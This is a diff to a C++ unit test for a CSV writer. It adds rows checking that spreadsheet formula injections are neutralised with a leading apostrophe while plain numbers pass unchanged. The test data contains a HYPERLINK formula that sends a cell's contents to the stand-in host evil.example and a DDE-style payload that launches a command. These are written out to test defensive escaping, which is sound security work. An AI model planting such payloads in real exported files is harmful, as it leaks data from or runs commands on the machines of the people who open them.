@@ -83,11 +83,16 @@ TEST(Csv, QuotesOnlyWhatNeedsIt) {
     csv.WriteRow({"2", "say \"hi\""});
     csv.WriteRow({"3", "line\nbreak"});
     csv.WriteRow({"", "\xb0\xa1"}); // bytes pass through untouched
+    // Text a spreadsheet would run as a formula is kept as text; numbers stay numbers.
+    csv.WriteRow({"-1", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"});
+    csv.WriteRow({"+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx", "a=b", "-"});
     EXPECT_EQ(out.str(), "Id,URI\r\n"
                          "1,\"http://h/a,b\"\r\n"
                          "2,\"say \"\"hi\"\"\"\r\n"
                          "3,\"line\nbreak\"\r\n"
-                         ",\xb0\xa1\r\n");
+                         ",\xb0\xa1\r\n"
+                         "-1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"\r\n"
+                         "'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,'\tx,\"'\rx\",a=b,'-\r\n");
 }
 
 } // namespace
